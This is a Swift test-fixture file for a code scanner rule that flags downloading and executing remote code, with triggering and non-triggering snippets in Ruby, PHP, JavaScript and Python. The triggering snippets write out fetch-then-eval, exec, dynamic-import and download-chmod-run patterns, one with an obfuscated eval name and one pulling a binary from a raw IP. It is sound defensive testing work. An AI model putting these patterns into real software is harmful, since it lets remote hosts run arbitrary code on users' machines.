import SkillScanCore

extension CodeDownloadExecuteRule {
  static let triggering: [Example] = [
    Example(
      "CACHE = File.join(Dir.home, \".cache\", \"relnotes\", \"pack.rb\")\nbody = Net::HTTP.get(URI(\"https://tpl.relnotes-hub.dev/pack.rb\"))\nFile.write(CACHE, body)\n↓TOPLEVEL_BINDING.eval(File.read(CACHE), CACHE)\n",
      language: .text, path: "scripts/relnotes.rb", note: "Ruby: fetched, written to a file, evaluated"),
    Example(
      "<?php\n$code = file_get_contents('https://plugins.example-cdn.net/shim.txt');\n↓eval($code);\n",
      language: .text, path: "scripts/shim.php", note: "PHP: a fetched body evaluated"),
    Example(
      "const https = require('https');\nconst _k = ['\\x65\\x76\\x61\\x6c'][0];\nhttps.get('https://cdn-pkgmirror.net/x.js', (res) => { let data = ''; res.on('data', (d) => (data += d)); res.on('end', () => { ↓globalThis[_k](data); }); });\n",
      language: .javascript, note: "eval named by an escaped literal held in a variable"),
    Example(
      "import json, subprocess, urllib.request\nlatest = json.load(urllib.request.urlopen(MANIFEST, timeout=10))\nfor step in latest.get('post_update', []):\n    ↓subprocess.run(step, shell=True)\n",
      language: .python, note: "commands from a downloaded manifest, run through a loop variable"),
    Example(
      "const https = require('https');\nconst vm = require('vm');\nfunction load(src) {\n  ↓vm.runInNewContext(src, { require });\n}\nhttps.get({ host: 'rules.example.net', path: '/pack' }, (res) => {\n  let body = '';\n  res.on('data', (d) => (body += d));\n  res.on('end', () => load(body));\n});\n",
      language: .javascript, note: "the download reaches the evaluator through a function's parameter"),
    Example("import requests\n↓exec(requests.get('https://cdn.example.net/plugin.py').text)\n", language: .python),
    Example(
      "const https = require('https');\nfunction fetchRules(url, cb) {\n  https.get(url, (res) => { let data = ''; res.on('data', (d) => (data += d)); res.on('end', () => cb(null, data)); }).on('error', (e) => cb(e));\n}\nfetchRules(RULES_URL, (err, body) => {\n  if (err) return;\n  const src = body.trim();\n  ↓eval(src);\n});\n",
      language: .javascript, note: "a download helper hands the body to its callback"),
    Example(
      "const https = require('https');\nfunction get(url) {\n  return new Promise((resolve) => https.get(url, (res) => { let d = ''; res.on('data', (c) => (d += c)); res.on('end', () => resolve(d)); }));\n}\nasync function patch() {\n  const src = await get(INDEX);\n  const run = ↓new Function('require', src);\n  run(require);\n}\n",
      language: .javascript, note: "the script's own download helper returns the code"),
    Example(
      "const https = require('node:https');\nhttps\n  .get('https://cdn.example.net/p.js', (res) => { let d = ''; res.on('data', (c) => (d += c)); res.on('end', () => ↓eval(d)); });\n",
      language: .javascript, note: "a node: import and a call chained across a line break"),
    Example("from urllib.request import urlopen\nsrc = urlopen(URL).read()\ncode = src.decode()\n↓exec(code)\n", language: .python, note: "data flow through two assignments"),
    Example(
      "import urllib.request\ndef load_preset(name):\n    with urllib.request.urlopen(LIBRARY.format(name=name), timeout=15) as resp:\n        src = resp.read().decode()\n    ns = {}\n    ↓exec(compile(src, name, 'exec'), ns)\n",
      language: .python, note: "the response bound by `with … as`, compiled, then run"),
    Example("↓eval(await (await fetch('https://cdn.example.net/x.js')).text());\n", language: .javascript),
    Example("const res = await fetch(url);\nconst body = await res.text();\n↓new Function(body)();\n", language: .javascript),
    Example("const mod = await ↓import('https://cdn.example.net/mod.js');\n", language: .javascript),
    Example(
      "const res = await fetch(PACK_URL);\nconst src = await res.text();\nconst mod = await ↓import('data:text/javascript;base64,' + Buffer.from(src).toString('base64'));\n",
      language: .javascript, note: "a fetched body imported as a data: URL"),
    Example("import urllib.request, runpy\nurllib.request.urlretrieve(URL, '/tmp/helper.py')\n↓runpy.run_path('/tmp/helper.py')\n", language: .python),
    Example(
      "import os, subprocess, requests\nname = 'update.bin'\nr = requests.get('http://203.0.113.7:8013/update.bin')\nwith open(name, 'wb') as f:\n    f.write(r.content)\nos.chmod(name, 0o755)\n↓subprocess.run(['./' + name])\n",
      language: .python, note: "a download written to a file, made executable and run"),
    Example(
      "const body = await (await fetch(URL)).text();\nfs.writeFileSync('/tmp/setup.sh', body);\n↓child_process.execFileSync('bash', ['/tmp/setup.sh']);\n",
      language: .javascript, note: "an interpreter given the saved download"),
    Example(
      "import os, stat, subprocess, tempfile, urllib.request\ndef ensure():\n    dest = os.path.join(tempfile.gettempdir(), '.tool')\n    urllib.request.urlretrieve(BIN_URL, dest)\n    os.chmod(dest, 0o755)\n    return dest\nff = ensure()\n↓subprocess.Popen([ff, '-i', src])\n",
      language: .python, note: "urlretrieve's file handed back by a helper and run"),
    Example(
      "const https = require('https');\nhttps.get(URL, (res) => {\n  const out = fs.createWriteStream(dest);\n  res.pipe(out);\n  out.on('finish', () => { fs.chmodSync(dest, 0o755); ↓child_process.execFileSync(dest); });\n});\n",
      language: .javascript, note: "a download streamed to disk and run"),
    Example(
      "import { execFileSync } from 'node:child_process';\nimport { createWriteStream, chmodSync } from 'node:fs';\nimport { pipeline } from 'node:stream/promises';\nconst res = await fetch(`${MIRROR}/${VERSION}/${platform()}-${arch()}/engine`);\nawait pipeline(Readable.fromWeb(res.body), createWriteStream(enginePath));\nchmodSync(enginePath, 0o755);\n↓execFileSync(enginePath, ['--install-runtime']);\n",
      language: .javascript, note: "stream/promises pipeline writes the download, then it runs"),
  ]

  static let nonTriggering: [Example] = [
    Example(
      "CACHE = File.join(Dir.home, \".cache\", \"rates.json\")\nbody = Net::HTTP.get(URI(\"https://api.rates.example.com/latest\"))\nFile.write(CACHE, body)\nrates = JSON.load(File.read(CACHE))\n",
      language: .text, path: "scripts/rates.rb", note: "fetched data cached and parsed, never run"),
    Example(
      "const https = require('https');\nfunction fetchStatus(url, cb) {\n  https.get(url, (res) => cb(null, res.statusCode)).on('error', (e) => cb(e));\n}\nfetchStatus(HEALTH_URL, (err, status) => {\n  const hook = fs.readFileSync('hooks/on-status.js', 'utf8');\n  eval(hook);\n  console.log(status);\n});\n",
      language: .javascript, note: "the callback runs a local file; its downloaded parameter is only printed"),
    Example(
      "import subprocess, urllib.request\ndef run(cmd):\n    return subprocess.run(cmd)\ndef fetch_notes(python):\n    notes = urllib.request.urlopen(NOTES).read()\n    run([python, '-m', 'pip', '--version'])\n    return notes\ndef setup(python):\n    fetch_notes(python)\n",
      language: .python, note: "what a download helper is given is not what it downloads"),
    Example(
      "import subprocess, requests\nprompt = requests.get(FEED).json()['text']\ncmd = ['openclaw', 'agent', '--message', prompt]\nsubprocess.run(cmd, check=True)\n",
      language: .python, note: "downloaded text is an argument of a fixed program"),
    Example(
      "import requests, subprocess\ndef speak(text, out):\n    subprocess.run(['edge-tts', '--text', text, '--write-media', out], capture_output=True, text=True)\nfor item in requests.get(API).json()['items']:\n    speak(item['title'], 'a.mp3')\n",
      language: .python, note: "downloaded text handed to a program as its data, not run"),
    Example(
      "import requests\ndef render(src):\n    return exec(compile(src, 'tpl', 'exec'))\nresp = requests.get('https://api.example.net/items')\nrender(open('template.py').read())\n",
      language: .python, note: "the function runs a local template; the download never reaches it"),
    Example(
      "import urllib.request, pandas\ndef fetch():\n    dest = 'rates.csv'\n    urllib.request.urlretrieve(RATES_URL, dest)\n    return dest\npath = fetch()\nsubprocess.run(['wc', '-l', path])\n",
      language: .python, note: "a downloaded file given to a program as data"),
    Example(
      "https.get(URL, (res) => res.pipe(fs.createWriteStream('report.pdf')));\nchild_process.execFileSync('open', ['report.pdf']);\n",
      language: .javascript, note: "a streamed download opened as a document"),
    Example("import requests\ndata = requests.get(API).json()\nprint(data['items'])\n", language: .python, note: "fetched data is used as data"),
    Example("const res = await fetch(url);\nconst json = await res.json();\nrender(json);\n", language: .javascript, note: "no exec sink"),
    Example("code = open('local_plugin.py').read()\nexec(code)\n", language: .python, note: "executes a bundled file, nothing downloaded"),
    Example(
      "import requests, subprocess\ndata = requests.get(API).content\nwith open('out.json', 'wb') as f:\n    f.write(data)\nsubprocess.run(['jq', '.', 'out.json'])\n",
      language: .python, note: "the download is a tool's input, not the program"),
    Example(
      "const audio = await (await fetch(TTS_URL)).arrayBuffer();\nfs.writeFileSync(audioPath, Buffer.from(audio));\nexecSync(`ffmpeg -i \"${audioPath}\" -y out.mp3`);\n",
      language: .javascript, note: "a template that mentions the saved file as an argument"),
  ]
}
